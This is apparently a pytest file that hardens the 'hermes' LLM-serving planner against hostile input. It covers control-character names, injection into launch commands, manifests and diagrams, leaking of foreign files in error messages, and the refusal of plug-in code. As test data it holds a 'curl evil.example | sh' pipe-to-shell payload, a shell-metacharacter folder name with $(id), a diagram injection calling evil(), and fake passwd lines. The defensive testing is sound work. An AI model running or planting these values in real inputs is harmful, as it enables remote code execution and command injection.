"""Scenarios from outside: names that are no line of their own, files that are not quoted, code that can be refused."""

from __future__ import annotations

import json
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from hermes.api import load_scenario
from hermes.cli import main
from hermes.cli.diagram import Box, Diagram
from hermes.deploy.manifests import KINDS, manifest_text
from hermes.deploy.vllm import command_lines
from hermes.errors import InputError
from hermes.results.files.stored import scenario_digest

LINE = "x\ncurl evil.example | sh #"
WORKLOAD: dict[str, Any] = {"requests": 2, "arrivals": {"kind": "at_once"},
                            "lengths": {"kind": "fixed", "prompt": 8, "output": 2}}


def scenario(**more: Any) -> dict[str, Any]:
    return {"name": "s", "workload": WORKLOAD, "clients": [{"model": "llama-3.1-8b", "device": "h100-sxm"}], **more}


@pytest.mark.parametrize("text", [LINE, "a\rb", "a\x1b[2Jb", "a\u2028b", "a\x85b"])
@pytest.mark.parametrize("place", ["name", "clients.0.name", "workload.0.name"])
def test_a_name_with_control_characters_is_refused(place: str, text: str) -> None:
    given = scenario()
    if place == "name":
        given["name"] = text
    elif place == "clients.0.name":
        given["clients"] = [{**given["clients"][0], "name": text}]
    else:
        given["workload"] = [{**WORKLOAD, "name": text}]
    with pytest.raises(InputError, match=r"name: expected one line of text, without control characters") as found:
        load_scenario(given)
    assert "\n" not in str(found.value)


def renamed(text: str, model: str = "") -> Any:
    """A scenario whose group has any name, as if nothing had checked it; its model is a file of any name."""
    checked = load_scenario(scenario(**({"clients": [{"model": model, "device": "h100-sxm"}]} if model else {})))
    clients = [client.model_copy(update={"name": text}) for client in checked.clients]
    found = checked.model_copy(update={"clients": clients, "name": text})
    found._source = checked._source
    return found


def test_launch_commands_have_no_line_of_a_name(tmp_path: Path) -> None:
    [text] = command_lines(renamed(LINE))
    comment, command = text.split("\n")
    assert comment == "# x curl evil.example | sh #: 1 of them"
    assert shlex.split(command)[:2] == ["vllm", "serve"]
    folder = tmp_path / "a; touch pwned $(id)"
    folder.mkdir()
    model = folder / "model.yaml"
    model.write_text(Path("hw_profiles/models/llama-3.1-8b.yaml").read_text())
    [text] = command_lines(renamed("x", str(model)))
    assert shlex.split(text, comments=True)[2] == str(model)


@pytest.mark.parametrize("kind", KINDS)
def test_manifests_have_no_line_of_a_name(kind: str) -> None:
    text = manifest_text(kind, renamed(LINE))
    body = text.split("apiVersion:", 1)[0]
    assert all(line.startswith("# ") for line in body.splitlines())
    assert "curl" not in "".join(line for line in text.splitlines() if not line.startswith("#") and " | " in line)
    assert len(list(yaml.safe_load_all(text))) == len(list(yaml.safe_load_all(manifest_text(kind, renamed("x")))))


def test_diagrams_have_no_line_of_a_name() -> None:
    made = Diagram({"a": Box(['x\n"]; click n0 call evil() "'])})
    assert len(made.mermaid().splitlines()) == 2
    assert len(made.dot().splitlines()) == 4
    assert '\\"]; click' in made.dot()


@pytest.mark.parametrize("key", ["model", "device"])
@pytest.mark.parametrize("suffix", ["", ".json", ".yaml"])
def test_a_file_that_is_no_description_is_not_quoted(key: str, suffix: str, tmp_path: Path) -> None:
    secret = tmp_path / f"passwd{suffix}"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:daemon\n")
    with pytest.raises(InputError) as found:
        load_scenario(scenario(clients=[{"model": "llama-3.1-8b", "device": "h100-sxm", key: str(secret)}]))
    assert str(secret) in str(found.value)
    assert not {"root", "bin:", "bash", "daemon"} & set(str(found.value).replace(str(secret), "").split())
    assert "root:x" not in str(found.value)


@pytest.mark.parametrize("command", [["sweep", "-o", "out"], ["optimize", "-o", "out"], ["run"], ["size"]])
def test_commands_quote_no_foreign_file(
    command: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("passwd.yaml").write_text("root:x:0:0:root:/root:/bin/bash\n")
    assert main([command[0], "passwd.yaml", *command[1:]]) == 2
    assert "root:x" not in capsys.readouterr().err


REFUSED = "--no-plugins refuses code that a file names"


def files(folder: Path) -> None:
    (folder / "mine.py").write_text("from pathlib import Path\nPath('ran').write_text('')\ndef f(results): return {}\n")
    (folder / "program").write_text(f"#!/bin/sh\ntouch {folder}/ran\n")
    (folder / "program").chmod(0o755)
    (folder / "start.log").write_text("INFO 11-29 14:00:00 Maximum concurrency for 2,048 tokens per request: 9.00x\n")
    (folder / "study").mkdir()
    (folder / "study" / "study.yaml").write_text("title: t\n")
    (folder / "study" / "report.py").write_text((folder / "mine.py").read_text())
    for name, more in {
        "plugin": {"plugins": ["mine.py"]},
        "program": {"clients": [{"model": "llama-3.1-8b", "device": "h100-sxm",
                                 "scheduler": {"kind": "vllm", "python": str(folder / "program")}}]},
    }.items():
        (folder / f"{name}.yaml").write_text(yaml.safe_dump(scenario(**more)))
    (folder / "sweep.yaml").write_text(yaml.safe_dump(
        {"name": "w", "scenario": scenario(), "extract": "mine:f", "grid": {"seed": [1]}}))


@pytest.mark.parametrize("call", [
    ["run", "plugin.yaml"], ["validate", "plugin.yaml"], ["run", "program.yaml"], ["validate", "program.yaml"],
    ["sweep", "sweep.yaml", "-o", "out"], ["study", "study", "-o", "out"], ["export", "vllm", "plugin.yaml"],
    ["capacity", "program.yaml"], ["explain", "program.yaml"], ["size", "plugin.yaml", "--device", "h100-sxm"],
    ["run", "plain.yaml", "--plugin", "mine.py"],
], ids=" ".join)
@pytest.mark.parametrize("how", ["option", "variable"])
def test_no_plugins_refuses_code_that_files_name(
    call: list[str], how: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    files(tmp_path)
    (tmp_path / "plain.yaml").write_text(yaml.safe_dump(scenario()))
    if how == "variable":
        monkeypatch.setenv("HERMES_NO_PLUGINS", "1")
    assert main([*call, *(["--no-plugins"] if how == "option" else [])]) == 2
    assert REFUSED in capsys.readouterr().err
    assert not (tmp_path / "ran").exists()


ADVISE = ["--autoscaler", "{kind: static}"]


@pytest.mark.drawn
@pytest.mark.parametrize("call", [
    ["explain", "run", "--request", "0"], ["explain", "run", "--request", "0", "--alternatives", "1"],
    ["advise", "run", *ADVISE], ["compare", "run", "--log", "start.log"]], ids=" ".join)
def test_the_folder_of_a_run_runs_no_code_unless_it_is_asked_for(
    call: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    files(tmp_path)
    made = scenario(plugins=["mine.py"], clients=[{"model": "llama-3.1-8b", "device": "h100-sxm", "count": 2}])
    Path("two.yaml").write_text(yaml.safe_dump(made))
    assert main(["run", "two.yaml", "-o", "run", "-q"]) == 0
    Path("ran").unlink()
    for name in [name for name in sys.modules if name.startswith("hermes_plugin_mine")]:
        monkeypatch.delitem(sys.modules, name)   # as in a new process
    assert main(call) == 2
    said = "mine.py: reading the scenario runs this plug-in, which the folder of a run names"
    assert f"{said}; read it, then add --plugins" in capsys.readouterr().err
    assert main([*call, "--plugins", "--no-plugins"]) == 2
    assert REFUSED in capsys.readouterr().err
    assert not Path("ran").exists()
    assert main([*call, "--plugins"]) == 0
    assert Path("ran").exists()


@pytest.mark.drawn
@pytest.mark.parametrize("call", [["explain", "run", "--request", "0"], ["advise", "run", *ADVISE],
                                  ["compare", "run", "--log", "start.log"],
                                  ["report", "run", "-o", "page.html"]], ids=" ".join)
def test_an_edited_scenario_of_a_run_is_refused(
    call: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Whether the code that it names is allowed, or the summary has another digest for it."""
    monkeypatch.chdir(tmp_path)
    files(tmp_path)
    Path("plain.yaml").write_text(yaml.safe_dump(scenario()))
    assert main(["run", "plain.yaml", "-o", "run", "-q"]) == 0
    assert main(call) == 0
    path = Path("run/scenario.resolved.yaml")
    path.write_text(path.read_text().replace("plugins: []", f"plugins: [{tmp_path}/mine.py]"))
    capsys.readouterr()
    for more in ([], ["--plugins"]) if call[0] != "report" else ([],):
        assert main([*call, *more]) == 2
        [line] = capsys.readouterr().err.splitlines()
        assert line.startswith("hermes: run/scenario.resolved.yaml: it was changed after the run")
    summary = json.loads(Path("run/summary.json").read_text())
    summary["run"]["scenario"] = scenario_digest(path.read_text())
    Path("run/summary.json").write_text(json.dumps(summary))
    assert main(call) == 2
    assert "summary.json: it was changed after the run" in capsys.readouterr().err
    assert not Path("ran").exists()


def test_without_the_option_code_runs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    files(tmp_path)
    assert main(["validate", "plugin.yaml", "--no-plugins"]) == 2
    assert main(["validate", "plugin.yaml"]) == 0
    assert (tmp_path / "ran").exists()
    assert main(["--no-plugins", "run", "quickstart", "--set", "workload.requests=5"]) == 0
    capsys.readouterr()
